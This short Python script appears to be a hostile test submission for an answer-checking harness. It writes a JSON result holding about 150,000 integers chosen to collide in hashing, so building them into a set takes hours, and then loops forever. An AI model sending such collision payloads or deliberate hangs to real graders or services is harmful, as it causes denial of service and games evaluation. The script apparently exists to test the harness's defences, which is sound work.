"""Sends a set whose numbers were chosen to share a hash, which takes hours to build."""

import json
import os
import struct


def answer(x):
    numbers = [i * (2**61 - 1) for i in range(1, 150_000)]
    text = json.dumps({"event": "result", "mutated": [], "value": {"set": numbers}}).encode()
    data = memoryview(struct.pack(">4sIQ", b"CHW1", len(text), 0) + text)
    while data:
        data = data[os.write(3, data) :]
    while True:
        pass
